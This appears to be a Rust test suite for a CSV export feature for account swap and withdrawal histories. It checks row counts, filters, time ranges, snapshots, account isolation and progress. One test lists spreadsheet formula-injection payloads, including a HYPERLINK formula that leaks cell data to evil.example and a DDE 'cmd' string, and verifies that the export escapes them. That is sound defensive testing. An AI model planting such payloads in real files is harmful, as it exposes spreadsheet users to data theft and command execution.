//! Contents of the files.

use std::{
    io::Write,
    process::{Command, Stdio},
    time::Duration,
};

use base::clock::Clock;
use chain::{keys, models::xchain::XchainKey};
use local::{LocalStack, histories};
use serde_json::{Value, json};
use shared::models::export::{ExportStatus, HistoryChain, HistoryFilter, HistoryType};
use store::{Writes, lists};

use crate::{
    BEGUN, all, ask, file, make, row, run, second, second_part_held, somebody, swaps, with_swaps,
};

/// The rows of cells that Python's `csv` module reads.
fn read(text: &str) -> Vec<Vec<String>> {
    let program = "import csv, io, json, sys; text = sys.stdin.buffer.read().decode(); \
                   json.dump(list(csv.reader(io.StringIO(text, newline=''), strict=True)), sys.stdout)";
    let mut python = Command::new("python3")
        .args(["-c", program])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    python.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    let output = python.wait_with_output().unwrap();
    assert!(output.status.success());
    serde_json::from_slice(&output.stdout).unwrap()
}

/// The cells of a column, without its header.
fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let place = rows[0].iter().position(|head| head == name).unwrap();
    rows[1..].iter().map(|row| row[place].clone()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn thirty_thousand_rows_make_one_file_from_several_parts() {
    const COUNT: u64 = 30_000;
    let stack = LocalStack::start().await;
    let account = somebody();
    histories::plant(&stack, account, COUNT, |place| {
        histories::swap(account, place, second(place))
    })
    .unwrap();
    let export = ask(&stack, account, swaps()).await;
    let text = make(&stack, &export).await;

    let row = row(&stack, &export).await;
    assert_eq!((row.status, row.row_count), (ExportStatus::Completed, COUNT));
    assert_eq!(row.size_bytes, text.len() as u64);
    assert_eq!((row.owner, row.lease_until, row.cursor, row.error), (None, None, None, None));
    let etag = file(&stack, &export).await.header("etag").to_owned();
    let parts: usize = etag.trim_matches('"').rsplit('-').next().unwrap().parse().unwrap();
    assert_eq!(parts, text.len().div_ceil(5 * 1024 * 1024), "{etag}");
    assert!(parts >= 3, "{etag}");

    let rows = read(&text);
    assert_eq!(rows.len() as u64, COUNT + 1);
    let amounts = column(&rows, "inputAmount");
    assert!((1..=COUNT).map(|n| n.to_string()).eq(amounts), "each row once, oldest first");
    let times = column(&rows, "createdAt");
    assert_eq!(times[0], "2026-01-01T00:00:00.000Z");
    assert_eq!(times[COUNT as usize - 1], "2026-01-01T08:19:59.000Z");
    assert_eq!(column(&rows, "minOutputAmount")[0], u128::MAX.to_string());
    assert!(text.ends_with("\r\n") && !text.replace("\r\n", "").contains('\n'));
}

#[tokio::test]
async fn an_empty_history_makes_a_file_with_a_header() {
    let stack = LocalStack::start().await;
    for (kind, chain, first) in [
        (HistoryType::Swap, None, "id,type,"),
        (HistoryType::Withdraw, Some(HistoryChain::Bitcoin), "id,type,createdAt,state,txId,"),
        (HistoryType::Withdraw, Some(HistoryChain::Id(1)), "id,type,createdAt,state,txId,"),
        (HistoryType::All, None, "id,type,createdAt,state,txId,"),
        (HistoryType::VirtualMint, None, "txId,createdAt,state,mintId,"),
        (HistoryType::VirtualMint, Some(HistoryChain::Id(1)), "txId,"),
        (HistoryType::Refund, Some(HistoryChain::Bitcoin), "txId,createdAt,state,userAddress,"),
    ] {
        let export = ask(&stack, somebody(), all(kind, chain)).await;
        let text = make(&stack, &export).await;
        assert!(text.starts_with(first) && text.lines().count() == 1, "{text}");
        let row = row(&stack, &export).await;
        assert_eq!((row.row_count, row.size_bytes), (0, text.len() as u64));
    }
}

/// Three swaps alternating with two withdrawals.
async fn mixed(stack: &LocalStack) -> shared::models::account::AccountId {
    let account = somebody();
    histories::plant(stack, account, 5, |place| {
        if place % 2 == 0 {
            histories::swap(account, place, second(place))
        } else {
            histories::withdrawal(account, place, second(place))
        }
    })
    .unwrap();
    account
}

#[tokio::test]
async fn filters_select_by_type_and_chain() {
    let stack = LocalStack::start().await;
    let account = mixed(&stack).await;
    let bitcoin = Some(HistoryChain::Bitcoin);
    for (kind, chain, amounts) in [
        (HistoryType::Swap, None, "1 2 3 4 5"),
        (HistoryType::Swap, bitcoin, "2 4"),
        (HistoryType::Swap, Some(HistoryChain::Id(30)), "1 3 5"),
        (HistoryType::Swap, Some(HistoryChain::Id(21)), "1 3 5"),
        (HistoryType::Swap, Some(HistoryChain::Id(1)), ""),
        (HistoryType::Withdraw, Some(HistoryChain::Id(30)), ""),
        (HistoryType::All, None, "1 3 5"),
        (HistoryType::All, bitcoin, ""),
        (HistoryType::All, Some(HistoryChain::Id(30)), "1 3 5"),
        (HistoryType::All, Some(HistoryChain::Id(1)), ""),
    ] {
        let export = ask(&stack, account, all(kind, chain)).await;
        let rows = read(&make(&stack, &export).await);
        let name = if kind == HistoryType::Swap { "inputAmount" } else { "amount" };
        assert_eq!(column(&rows, name).join(" "), amounts, "{kind:?} {chain:?}");
        assert_eq!(row(&stack, &export).await.row_count, rows.len() as u64 - 1);
    }
}

#[tokio::test]
async fn both_ends_of_the_time_range_are_inclusive() {
    let stack = LocalStack::start().await;
    let account = mixed(&stack).await;
    let ms = |place: u64, ms: u64| second(place).plus(Duration::from_millis(ms));
    let before = BEGUN.minus(Duration::from_secs(9));
    for (from, to, amounts) in [
        (before, ms(9, 0), "1 2 3 4 5"),
        (second(1), second(3), "2 3 4"),
        (ms(1, 1), ms(2, 999), "3"),
        (second(2), second(2), "3"),
        (ms(2, 1), ms(2, 2), ""),
        (before, before, ""),
        (ms(4, 1), ms(9, 0), ""),
        (second(4), ms(9, 0), "5"),
    ] {
        let filter = HistoryFilter { from, to, ..swaps() };
        let export = ask(&stack, account, filter).await;
        let rows = read(&make(&stack, &export).await);
        assert_eq!(column(&rows, "inputAmount").join(" "), amounts, "{from:?} {to:?}");
    }
}

/// Rows created after the request are not in the file.
#[tokio::test]
async fn custody_13_a_file_has_no_rows_of_other_accounts() {
    let stack = LocalStack::start().await;
    let (account, other) = (somebody(), somebody());
    histories::plant(&stack, account, 5, |place| {
        let of = if place == 3 { other } else { account };
        histories::swap(of, place, second(place))
    })
    .unwrap();
    let text = make(&stack, &ask(&stack, account, swaps()).await).await;
    let ids = column(&read(&text), "id");
    assert_eq!(ids.len(), 4, "{ids:?}");
    assert!(!text.contains(&histories::swap(other, 3, second(3)).id));
}

#[tokio::test]
async fn a_file_is_a_snapshot() {
    let stack = LocalStack::start().await;
    let account = mixed(&stack).await;
    let export = ask(&stack, account, swaps()).await;
    let store = &stack.app().store;
    let late = histories::withdrawal(account, 100, stack.clock().now());
    let key = late.key().unwrap();
    lists::append(store, &[keys::lists::xchain_by_account(account)], |at| {
        let rows = Writes::<()>::new();
        (rows.insert(&keys::xchain(key), &late.clone().begun(at), ()), key)
    })
    .await
    .unwrap();
    let amounts =
        async |export| column(&read(&make(&stack, export).await), "inputAmount").join(" ");
    assert_eq!(amounts(&export).await, "1 2 3 4 5");
    let now = HistoryFilter { to: stack.clock().now(), ..swaps() };
    assert_eq!(amounts(&ask(&stack, account, now).await).await, "1 2 3 4 5 101");
    assert!(matches!(key, XchainKey::Withdrawal(_)));
}

/// Spreadsheets execute nothing in a file, and no text is altered.
#[tokio::test]
async fn hostile_texts_are_escaped_and_complete() {
    let stack = LocalStack::start().await;
    let texts = [
        "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=1\",\"=2",
        "said \"no\", twice",
        "two\r\nlines and\none",
        "🙂 ünïcödé ＝1 \u{202e}abc",
        "'=1",
        "-1.5",
        "",
        " leading and trailing ",
        ";|\u{0}",
    ];
    let account = somebody();
    histories::plant(&stack, account, texts.len() as u64, |place| {
        let mut record = histories::swap(account, place, second(place));
        record.failure_reason = Some(texts[place as usize].to_owned());
        record.failed_at_step = Some(texts[place as usize].to_owned());
        record
    })
    .unwrap();
    let export = ask(&stack, account, swaps()).await;
    let rows = read(&make(&stack, &export).await);
    for name in ["failureReason", "failedAtStep"] {
        let read = column(&rows, name);
        assert_eq!(read.len(), texts.len());
        for (cell, text) in read.iter().zip(texts) {
            let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
            let guarded = formula && text != "-1.5";
            let expected = if guarded { format!("'{text}") } else { text.to_owned() };
            assert_eq!(*cell, expected);
        }
    }
    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
}

/// A member whose row is deleted is left out; the others are in the file.
#[tokio::test]
async fn deleted_rows_are_left_out() {
    let stack = LocalStack::start().await;
    let account = mixed(&stack).await;
    let gone = histories::swap(account, 2, second(2)).key().unwrap();
    assert!(stack.app().store.delete(&keys::xchain(gone)).await.unwrap());
    let export = ask(&stack, account, swaps()).await;
    let rows = read(&make(&stack, &export).await);
    assert_eq!(column(&rows, "inputAmount").join(" "), "1 2 4 5");
    assert_eq!(row(&stack, &export).await.row_count, 4);
}

/// The list shows the progress of a file before it is complete.
#[tokio::test(flavor = "multi_thread")]
async fn the_list_shows_progress() {
    let stack = LocalStack::start().await;
    let export = ask(&stack, with_swaps(&stack, 9_000), swaps()).await;
    let network = second_part_held();
    let work = {
        let app = stack.app().through(network.outbound()).export_worker.clone();
        let export = export.clone();
        tokio::spawn(async move { run(&app, &export, 1).await })
    };
    network.latch().holds(1).await;
    let half = row(&stack, &export).await;
    assert_eq!(half.status, ExportStatus::Processing);
    let mut seen = vec![half.row_count];
    assert!((1..9_000).contains(&seen[0]), "{seen:?}");
    network.latch().open();
    while !work.is_finished() {
        let row = row(&stack, &export).await;
        if row.status == ExportStatus::Processing {
            seen.push(row.row_count);
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    assert!(!work.await.unwrap());
    assert!(seen.windows(2).all(|pair| pair[0] <= pair[1]), "{seen:?}");
    assert_eq!(json!(row(&stack, &export).await.row_count), Value::from(9_000));
}
